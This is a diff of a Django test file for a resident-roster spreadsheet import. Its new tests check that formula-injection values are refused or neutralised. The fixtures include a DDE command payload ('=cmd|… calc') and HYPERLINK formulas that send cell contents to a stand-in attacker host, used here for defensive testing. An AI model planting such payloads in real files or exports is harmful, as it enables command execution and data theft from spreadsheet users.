@@ -560,7 +560,8 @@ def rows_for_query_count(grids, count: int, start: int) -> list[dict]:
     ]
 
 
-def test_preview_query_count_does_not_grow_with_the_file(client_for, grids, django_assert_num_queries):
+def test_preview_query_count_does_not_grow_with_the_file(client_for, grids, django_assert_num_queries, settings):
+    settings.DAIBAN_ID_CHECKS_PER_DAY = 1000
     client = client_for("station")
     small = staged_import(client, xlsx(rows_for_query_count(grids, 5, 1)))
     large = staged_import(
@@ -571,10 +572,14 @@ def test_preview_query_count_does_not_grow_with_the_file(client_for, grids, djan
         ),
     )
     client.get(reverse("roster-preview", args=[small.pk]))  # warm the session
-    # session, user, scopes, the staged import, the grids, the registered IDs
-    with django_assert_num_queries(6):
+    # session, user, scopes, the staged import, the grids, the IDs checked today, the
+    # registered IDs (with whether each is in the user's reach)
+    with django_assert_num_queries(7):
         assert client.get(reverse("roster-preview", args=[small.pk])).context["check"].ok
-    with django_assert_num_queries(6):
+    # a first look at a file also records its IDs as checked today: one insert for them all
+    with django_assert_num_queries(8):
+        assert client.get(reverse("roster-preview", args=[large.pk])).context["check"].ok
+    with django_assert_num_queries(7):
         assert client.get(reverse("roster-preview", args=[large.pk])).context["check"].ok
 
 
@@ -687,3 +692,51 @@ def test_a_server_error_during_the_commit_mails_no_national_id(client_for, grids
         if factories.national_id(born="19450315", sequence=1) in report
         or factories.national_id(born="19450315", sequence=2) in report
     ]
+
+
+# --- formulas (issue 13 §1) -----------------------------------------------------------------
+
+
+def test_names_and_addresses_that_start_like_a_formula_are_refused_row_by_row(client_for, grids):
+    """A CSV carries the text as typed: "=cmd|…" in a name is refused with a row error
+    that names the sign; a phone starting with "+" is a phone number, not a formula."""
+    client = client_for("station")
+    rows = [
+        good_row(grids, 1, phone="+86 139 0000 0000"),
+        good_row(grids, 2, name="=cmd|' /C calc'!A0"),
+        good_row(grids, 3, address='=HYPERLINK("http://e.vil/?"&A3,"点击")'),
+        good_row(grids, 4, guardian_name="@SUM(1+1)"),
+        good_row(grids, 5, guardian_relation="－1+1"),
+        good_row(grids, 6, name="＋张三"),
+    ]
+    check = preview(client, staged_import(client, csv_file(rows, "utf-8-sig"), name="花名册.csv"))
+    found = errors_by_row(check)
+    assert sorted(found) == [3, 4, 5, 6, 7]
+    assert [column for issues in found.values() for column, _ in issues] == [
+        "姓名*",
+        "住址*",
+        "监护人",
+        "与监护人关系",
+        "姓名*",
+    ]
+    assert "“=”" in found[3][0][1] and "“＋”" in found[7][0][1]
+    assert not Resident.objects.filter(name__contains="cmd").exists()
+
+
+def test_a_formula_cell_in_a_workbook_is_read_as_its_value_never_as_the_formula(client_for, grids):
+    """Cells are read as the values Excel shows: a formula with a saved result gives that
+    result; a formula without one (written by a script) reads as an empty cell."""
+    client = client_for("station")
+    data = xlsx([good_row(grids, 1, name='=HYPERLINK("http://e.vil/?"&B2,"点击")')])
+    found = errors_by_row(preview(client, staged_import(client, data)))
+    assert [column for column, _ in found[2]] == ["姓名*"]  # empty: the formula never reaches the name
+
+
+def test_the_template_writes_grid_names_as_text(client_for, grids):
+    Area.objects.filter(pk=grids["grid1"].pk).update(name='=HYPERLINK("http://e.vil","第1网格")')
+    response = client_for("station").get(reverse("roster-template"))
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    names = [row[1] for row in workbook["网格编码"].iter_rows(min_row=2, values_only=True)]
+    assert '=HYPERLINK("http://e.vil","第1网格")' in names
